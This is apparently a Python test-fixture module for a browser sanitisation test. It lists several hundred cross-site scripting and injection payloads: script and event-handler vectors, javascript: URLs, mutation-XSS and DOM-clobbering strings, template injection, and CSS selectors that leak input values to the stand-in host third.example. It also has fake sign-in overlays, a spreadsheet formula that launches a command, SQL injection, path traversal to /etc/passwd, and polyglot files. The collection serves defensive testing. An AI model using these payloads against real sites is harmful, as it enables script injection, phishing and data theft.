# ruff: noqa: E501 (each text stands whole)
"""What strangers write to make a browser do something: several hundred texts, each a way of its own.

Wherever a text runs, it calls `ran()`, opens a dialog, or asks THIRD for something; a browser test notices each of these.
"""

THIRD = "https://third.example"

SCRIPTS = [
    "<script>ran()</script>", "<script src=//third.example/x.js></script>", "<ScRiPt>ran()</sCrIpT>",
    "<script>ran()//", "<script/x>ran()</script/x>", "<script\x0c>ran()</script>", "<script type=module>ran()</script>",
    "<<script>ran()//<</script>", "<scr<script>ipt>ran()</scr</script>ipt>", "<script>/*</script><img src=x onerror=ran()>*/",
    "<script>window.name='ran'</script>", "<script>document.title='ran'</script>", "<script>eval('ra'+'n()')</script>",
    "<script>\nran()\n</script>", "<script nonce=x>ran()</script>", "<script>setTimeout('ran()')</script>",
    "<script xlink:href=//third.example/y.js></script>", "<script defer src=data:text/javascript,ran()></script>",
    "<script type=importmap>{\"imports\":{\"a\":\"//third.example/a.js\"}}</script>", "<script>import('//third.example/m.js')</script>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://third.example/s\"]}]}</script>",
]  # fmt: skip

HANDLERS = [
    "<img src=x onerror=ran()>", "<img/src=x/onerror=ran()>", "<img src=x onerror\n=\nran()>", "<img src=`x`onerror=ran()>",
    "<IMG SRC=x OnErRoR=ran()>", "<img src=x:x onerror=ran()>", "<img src onerror=ran()>", "<img srcset=x onerror=ran()>",
    "<svg onload=ran()>", "<svg/onload=ran()>", "<svg\nonload\n=ran()//", "<body onload=ran()>", "<body onpageshow=ran()>",
    "<input autofocus onfocus=ran()>", "<select autofocus onfocus=ran()>", "<textarea autofocus onfocus=ran()>",
    "<button autofocus onfocus=ran()>x</button>", "<keygen autofocus onfocus=ran()>", "<a autofocus tabindex=0 onfocus=ran()>x</a>",
    "<details open ontoggle=ran()>x", "<video src=x onerror=ran()>", "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>", "<object data=x onerror=ran()>", "<embed src=x onload=ran()>", "<iframe onload=ran()></iframe>",
    "<marquee onstart=ran()>x</marquee>", "<marquee width=1 loop=1 onfinish=ran()>x</marquee>", "<link rel=stylesheet href=x onerror=ran()>",
    "<style onload=ran()></style>", "<div style=animation-name:a onanimationstart=ran()>x</div>", "<p onbeforescriptexecute=ran()>x",
    "<x onclick=ran()>x</x>", "<x contenteditable onblur=ran()>x</x>", "<form oninput=ran()><input></form>",
    "<div onpointerenter=ran()>x</div>", "<img src=x onerror=&#114;&#97;&#110;&#40;&#41;>", "<img src=x onerror=\u0072an()>",
    "<img src=x onerror=\\u0072an()>", "<img src=x onerror=ran&lpar;&rpar;>", "<img src=x onerror=window['ran']()>",
    "<img src=x onerror=location='javascript:ran()'>", "<div popover id=p onbeforetoggle=ran()>x</div>", "<dialog open oncancel=ran()>x</dialog>",
    "<slot onslotchange=ran()>", "<track default src=x onerror=ran()>", "<meter onmouseover=ran()>x</meter>",
    "<xss style=content-visibility:auto oncontentvisibilityautostatechange=ran()>x", "<input type=image src=x onerror=ran()>",
    "<input type=hidden oncontentvisibilityautostatechange=ran() style=content-visibility:auto>", "<frameset onload=ran()>",
]  # fmt: skip

ADDRESSES = [
    "<a href=javascript:ran()>x</a>", "<a href='java\tscript:ran()'>x</a>", "<a href='java\nscript:ran()'>x</a>",
    "<a href='&#106;avascript:ran()'>x</a>", "<a href='&#x6A;avascript&colon;ran()'>x</a>", "<a href='\x01javascript:ran()'>x</a>",
    "<a href=' javascript:ran()'>x</a>", "<a href=JaVaScRiPt:ran()>x</a>", "<a href='java&Tab;script:ran()'>x</a>",
    "<a href='java&NewLine;script:ran()'>x</a>", "<a href=vbscript:ran()>x</a>", "<a href='data:text/html,<script>ran()</script>'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==>x</a>", "<a href=blob:https://third.example/1>x</a>",
    "<a href=feed:javascript:ran()>x</a>", "<a href=view-source:javascript:ran()>x</a>", "<a href=filesystem:https://third.example/>x</a>",
    "<a href=//third.example ping=//third.example/ping>x</a>", "<a target=_top href=//third.example>x</a>", "<a href=?x=javascript:ran()>x</a>",
    "javascript:ran()", "java\tscript:ran()", "JAVASCRIPT&colon;ran()", "data:text/html,<script>ran()</script>", "vbscript:ran()",
    "javascript://%0aran()", "http://third.example/\"onmouseover=ran()//", "http://third.example/'><img src=x onerror=ran()>",
    "https://third.example/<script>ran()</script>", "www.third.example/\"><svg onload=ran()>", "mailto:a@third.example\"onclick=ran()",
    "mailto:x@y.example?body=<script>ran()</script>", "\"onfocus=ran() autofocus=\"@third.example", "a@third.example'onclick='ran()",
    "http://third.example\\@lume.example/", "http://lume.example@third.example/", "http://[::1]/\"><img src=x onerror=ran()>",
    "https://third.example/?q=</a><img src=x onerror=ran()>", "https://xn--80ak6aa92e.com/", "http://third.example/\u202egpj.exe",
    "<form action=javascript:ran()><button autofocus>x</button></form>", "<form><button formaction=javascript:ran()>x</button></form>",
    "<iframe src=javascript:ran()></iframe>", "<iframe srcdoc='<script>ran()</script>'></iframe>", "<iframe srcdoc=&lt;img&#32;src=x&#32;onerror=parent.ran()&gt;>",
    "<object data=javascript:ran()></object>", "<object data='data:text/html,<script>ran()</script>'></object>", "<embed src=javascript:ran()>",
    "<frameset><frame src=javascript:ran()></frameset>", "<isindex action=javascript:ran() type=image>", "<area href=javascript:ran() shape=default>",
    "<map name=m><area href=javascript:ran()></map><img usemap=#m src=x>", "<math href=javascript:ran()>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>", "<svg><a xlink:href=javascript:ran()><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:ran() /><a id=a><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=ran() /></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=ran() /></svg>#x'/></svg>",
    "<base href=//third.example/>", "<base href=javascript:ran()//>", "<base target=_blank>", "<meta http-equiv=refresh content='0;url=javascript:ran()'>",
    "<meta http-equiv=refresh content='0;url=//third.example/'>", "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
    "<meta http-equiv=set-cookie content=a=b>", "<meta name=referrer content=unsafe-url>", "<meta charset=utf-7>+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "<link rel=import href=//third.example>", "<link rel=prefetch href=//third.example/p>", "<link rel=preload as=script href=//third.example/p>",
    "<link rel=dns-prefetch href=//third.example>", "<link rel=preconnect href=//third.example>", "<link rel=manifest href=//third.example/m>",
    "<link rel=icon href=//third.example/i>", "<link rel=modulepreload href=//third.example/m.js>",
]  # fmt: skip

LOADS = [
    "<img src=//third.example/p.gif>", "<img src=https://third.example/p.gif width=1 height=1>", "<img srcset='https://third.example/2 2x'>",
    "<picture><source srcset=//third.example/s><img></picture>", "<img src='\\\\third.example\\p'>", "<img src=http:third.example>",
    "<img lowsrc=//third.example/l dynsrc=//third.example/d>", "<body background=//third.example/b>", "<table background=//third.example/t><td>x</table>",
    "<td background=//third.example/t>", "<video poster=//third.example/v>", "<video src=//third.example/v autoplay></video>",
    "<audio src=//third.example/a autoplay></audio>", "<source src=//third.example/s>", "<track src=//third.example/t>",
    "<input type=image src=//third.example/i>", "<iframe src=//third.example></iframe>", "<frame src=//third.example>", "<embed src=//third.example/e>",
    "<object data=//third.example/o></object>", "<applet code=x archive=//third.example/a></applet>", "<portal src=//third.example>",
    "<link rel=stylesheet href=//third.example/c.css>", "<style>@import '//third.example/i.css';</style>", "<style>@import url(//third.example/u.css);</style>",
    "<style>body{background:url(//third.example/b)}</style>", "<style>@font-face{font-family:f;src:url(//third.example/f)}*{font-family:f}</style>",
    "<style>input[value^=a]{background:url(//third.example/a)}</style>", "<style>:has(a){background:image-set('//third.example/h' 1x)}</style>",
    "<style>*{cursor:url(//third.example/c),auto}</style>", "<style>li{list-style:url(//third.example/l)}</style>", "<style>a::before{content:url(//third.example/c)}</style>",
    "<div style=background:url(//third.example/d)>x</div>", "<div style='background-image:\\75rl(//third.example/e)'>x</div>", "<p style='b\\61ckground:url(//third.example/f)'>x",
    "<div style='behavior:url(//third.example/x.htc)'>x</div>", "<div style='-moz-binding:url(//third.example/x#b)'>x</div>", "<div style=width:expression(ran())>x</div>",
    "<div style='filter:url(//third.example/f.svg#f)'>x</div>", "<div style='mask:url(//third.example/m.svg#m)'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Your session has ended</div>", "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh'><a href=//third.example>sign in</a></div>",
    "<div class='app rail row' id=room hidden>x</div>", "<dialog open style=position:fixed>x</dialog>",
    "<svg><image href=//third.example/i /></svg>", "<svg><image xlink:href=//third.example/i /></svg>", "<svg><use href=//third.example/u.svg#a /></svg>",
    "<svg><feImage href=//third.example/f /></svg>", "<svg><style>@import '//third.example/s.css'</style></svg>", "<svg><foreignObject><iframe src=//third.example></iframe></foreignObject></svg>",
    "<svg><script href=//third.example/s.js /></svg>", "<svg><filter><feImage xlink:href=//third.example/x /></filter></svg>",
    "<form action=//third.example><input name=password type=password><button autofocus>Sign in again</button></form>",
    "<form id=f action=//third.example></form><button form=f>x</button>", "<input form=compose name=text value=x>", "<button form=compose formaction=//third.example>x</button>",
    "<bgsound src=//third.example/b>", "<layer src=//third.example/l>", "<xml src=//third.example/x>", "<blink cite=//third.example>x</blink>",
    "<blockquote cite=//third.example/c>x</blockquote>", "<html manifest=//third.example/m>", "<head profile=//third.example/p>", "<q cite=javascript:ran()>x</q>",
    "<menu><command icon=//third.example/i></menu>", "<a href=x attributionsrc=//third.example/a>x</a>", "<img src=x attributionsrc=//third.example/a>",
]  # fmt: skip

MUTATED = [
    "<noscript><p title=\"</noscript><img src=x onerror=ran()>\">", "<svg></p><style><a id=\"</style><img src=1 onerror=ran()>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran()&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran()>", "<svg><style><img src=x onerror=ran()></style></svg>",
    "<math><style><img src=x onerror=ran()></style></math>", "<svg><title><img src=x onerror=ran()></title></svg>",
    "<svg><desc><img src=x onerror=ran()></desc></svg>", "<math><annotation-xml encoding=text/html><img src=x onerror=ran()></annotation-xml></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>ran()</script>", "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
    "<template><img src=x onerror=ran()></template>", "<template shadowrootmode=open><img src=x onerror=ran()></template>",
    "<div><template shadowrootmode=closed><style>@import '//third.example/t'</style></template></div>",
    "<xmp><img src=x onerror=ran()></xmp>", "<noembed><img src=x onerror=ran()></noembed>", "<noframes><p title='</noframes><img src=x onerror=ran()>'>",
    "<plaintext><img src=x onerror=ran()>", "<listing>&lt;img src=x onerror=ran()&gt;</listing>", "<textarea><img src=x onerror=ran()></textarea>",
    "<title><img src=x onerror=ran()></title>", "<style><img src=x onerror=ran()></style>", "<select><style></select><img src=x onerror=ran()></style></select>",
    "<select><iframe></select><img src=x onerror=ran()>", "<table><td><style></table><img src=x onerror=ran()>", "<a href=\"<a href='x' onmouseover=ran()//\">x</a>",
    "<!--><img src=x onerror=ran()>-->", "<!--!><img src=x onerror=ran()>-->", "<!-- --!><img src=x onerror=ran()>-->", "<![CDATA[<img src=x onerror=ran()>]]>",
    "<svg><![CDATA[><img src=x onerror=ran()>]]></svg>", "<?xml version=1?><img src=x onerror=ran()>", "<?php echo '<img src=x onerror=ran()>' ?>",
    "<!doctype html [<!ENTITY x '<script>ran()</script>'>]>&x;", "<!DOCTYPE x SYSTEM '//third.example/x.dtd'>", "</p><img src=x onerror=ran()>", "</br><img src=x onerror=ran()>",
    "<p/><p/><p/><img src=x onerror=ran()", "<img src=x onerror=ran()//", "<a<b onmouseover=ran()>x", "<a\x0bhref=javascript:ran()>x</a>", "<img \x00src=x onerror=ran()>",
    "<i\x00mg src=x onerror=ran()>", "<div id=\"x\"\"onclick=ran()>x</div>", "<div title='a\"><img src=x onerror=ran()>'>x</div>", "\u2028<img src=x onerror=ran()>",
    "&lt;img src=x onerror=ran()&gt;", "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;", "%3Cscript%3Eran()%3C/script%3E", "\\x3cscript\\x3eran()\\x3c/script\\x3e",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e", "\uff1cscript\uff1eran()\uff1c/script\uff1e", "\u2039script\u203aran()\u2039/script\u203a", "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "\u00bcscript\u00beran()\u00bc/script\u00be", "<scr\u0000ipt>ran()</scr\u0000ipt>", "<\u0131mg src=x onerror=ran()>", "<\u017fcript>ran()</\u017fcript>", "<ſvg onload=ran()>",
    "<b><i><u>" * 40 + "<img src=x onerror=ran()>", "<div>" * 80 + "<svg onload=ran()>", "<a " + "a=b " * 50 + "onfocus=ran() autofocus tabindex=0>x</a>",
    "<svg><p><style><!--</style><img src=x onerror=ran()>--></style>", "<math><mi//xlink:href=\"data:x,<script>ran()</script>\">", "<math><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=ran() src=1>\">",
    "<form id=f><input name=attributes><input name=nodeName></form>", "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><animatetransform onbegin=ran()>", "<svg><discard onbegin=ran()>",
    "<svg><script>ran&#40;&#41;</script></svg>", "<svg><script>ran()</script></svg>", "<svg xmlns='http://www.w3.org/2000/svg'><script>ran()</script></svg>", "<x xmlns='http://www.w3.org/1999/xhtml' onclick=ran()>x</x>",
]  # fmt: skip

CLOBBERS = [
    "<form name=body></form>", "<img name=cookie>", "<a id=words><a id=words name=dataset>x</a></a>", "<form id=toast><input name=content></form>", "<div id=toasts></div>",
    "<template id=toast><p><span data-fill><img src=x onerror=ran()></span></p></template>", "<div id=rows data-filter=open></div>", "<iframe name=self></iframe>", "<img name=getElementById>",
    "<a id=defaultView><a id=defaultView name=location href=javascript:ran()>x</a></a>", "<object name=scripts></object>", "<input name=nodeName>", "<form><input name=action><input name=dataset></form>",
    "<div hx-get=//third.example hx-trigger=load>x</div>", "<div data-hx-get=//third.example data-hx-trigger=load>x</div>", "<div hx-on:load=ran()>x</div>", "<p hx-trigger=load hx-get=/sign-out hx-swap=outerHTML>x</p>",
    "<a data-open href=//third.example>x</a>", "<form data-act method=post action=/sign-out><button autofocus>x</button></form>", "<button data-copy=made-key>x</button>", "<div data-into=#rows data-at=start id=row-1>x</div>",
    "<hx-partial hx-target=#room><img src=x onerror=ran()></hx-partial>", "<div hx-swap-oob=true id=room>x</div>", "<template partial hx-target=body><img src=x onerror=ran()></template>", "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
    "__proto__", "constructor.prototype.ran=1", "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=ran()>\"}}", "data: reload\n\nevent: reload\ndata: x\n\n", "\nevent: swap\ndata: <img src=x onerror=ran()>\n\n", "id: 9-9\n\nevent: gone\ndata: room",
    "{{7*7}}", "{{ran()}}", "${ran()}", "#{ran()}", "<%= ran() %>", "{{constructor.constructor('ran()')()}}", "[[ran()]]", "{% include 'web/base.html' %}", "{{ self.__init__.__globals__ }}", "{{ config }}", "[[config]]", "[[title]]", "{n}", "{name}", "{0}", "%(name)s", "%s%n%x",
]  # fmt: skip

SEEN = [
    "\u202e\u2066gnp.exe\u2069", "invoice\u202efdp.exe", "\u2067\u202bAna\u202c\u2069", "\u200f\u200e\u061cright", "\u0430\u043d\u0430 Fer\u0433eira", "Аna Ferreira", "ᴬⁿᵃ", "Ana\u200bFerreira", "Ana\u00adFerreira", "\ufeffAna", "A\u034fna", "\u2800", "\u3164", "\u115f\u1160", "\U000e0041\U000e0042tag",
    "Z" + "\u0335\u0321\u0489" * 50, "\u0e47" * 99, "\u0300" * 300, "\u200b" * 300 + "x", "\u200d" * 300, "😀" + "\u200d😀" * 60, "🏴" + "\U000e0067" * 50, "\U0001f1e6" * 50, "\ufdfd" * 40, "\u1f82" * 40, "ﷺ" * 41, "𒐫" * 40, "\u2029" * 50 + "x", "x\u0085y", "a" * 600, "\t" * 100 + "x", "(" * 300, "\u0000x\u0000",
    "\x1b[2J\x1b]0;ran\x07", "\r\nSet-Cookie: a=b", "=HYPERLINK(\"https://third.example\")", "@SUM(1+1)*cmd|' /C calc'!A0", "'; DROP TABLE message; --", "../../../etc/passwd", "CON.txt", "file:///etc/passwd", "\\\\third.example\\share", "smb://third.example/x", "tel:*#06#", "ms-word:ofe|u|https://third.example/x.docm", "search-ms:query=x&crumb=location:\\\\third.example",
    "![x](https://third.example/p.gif)", "[x](javascript:ran())", "[x]: javascript:ran()", "<javascript:ran()>", "<https://third.example/>", "```html\n<script>ran()</script>\n```", "[url=javascript:ran()]x[/url]", "[img]https://third.example/p.gif[/img]", "|x|\n|-|\n|<img src=x onerror=ran()>|", "\\[x\\](javascript:ran())",
    "GIF89a/*<svg/onload=ran()>*/=ran()//;", "%PDF-1.7 <script>ran()</script>", "\x89PNG\r\n<script>ran()</script>", "BM<script>ran()</script>", "#define x <script>ran()</script>", "PK\x03\x04<script>ran()</script>", "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran()</x:script>",
]  # fmt: skip

BREAKERS = ["\">", "'>", "`>", "\" autofocus onfocus=ran() x=\"", "' onmouseover=ran() x='", "</textarea>", "</title>", "</style>", "</script>", "</template>", "</noscript>", "</svg>", "</math>", "</select>", "</iframe>", "</xmp>", "</option>", "</button>", "</a>", "</span></bdi>", "</p></article>", "</details></dl>", "-->", "]]>", "*/", "\\\">", "%22%3E", "&quot;&gt;", "\u2019\u201d>", "\n\n"]  # fmt: skip
"""What ends whatever the text may stand in."""

PAYLOADS: list[str] = list(
    dict.fromkeys(
        [
            *SCRIPTS, *HANDLERS, *ADDRESSES, *LOADS, *MUTATED, *CLOBBERS, *SEEN,
            *(breaker + vector for breaker in BREAKERS for vector in ("<img src=x onerror=ran()>", "<script>ran()</script>")),
        ]
    )
)  # fmt: skip

FLOODS = ["\u0300" * 10**6, "\u200b" * 10**6 + "x", "Z\u0335" * 400_000, "<b>" * 200_000, "a" * 3_000_000]
"""Texts of a million signs."""

FILES: dict[str, bytes] = {
    "page.jpg": b"<!doctype html><script>ran()</script><img src=https://third.example/f>",
    "page.html": b"<html><body onload=ran()>x</body></html>",
    "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'><script>ran()</script>"
    b"<image href='https://third.example/s'/><foreignObject><iframe src='https://third.example/i'/></foreignObject></svg>",
    "outer.svg": b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'https://third.example/x'>]>"
    b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><use xlink:href='https://third.example/u#a'/>&x;</svg>",
    "both.gif": b"GIF89a/*" + bytes(40) + b"*/=1;ran();//<script>ran()</script>",
    "both.pdf": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n<script>ran()</script>",
    "sheet.xml": b"<?xml version='1.0'?><?xml-stylesheet href='https://third.example/x.xsl' type='text/xsl'?>"
    b"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>ran()</x:script>",
    "code.js": b"ran()",
    "style.css": b"@import 'https://third.example/c.css';",
    "old.mht": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>ran()</script>",
    "empty.png": b"",
    "app.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>ran()</script></html>",
}
"""Files that are not what they are called, or that do something when they are opened."""
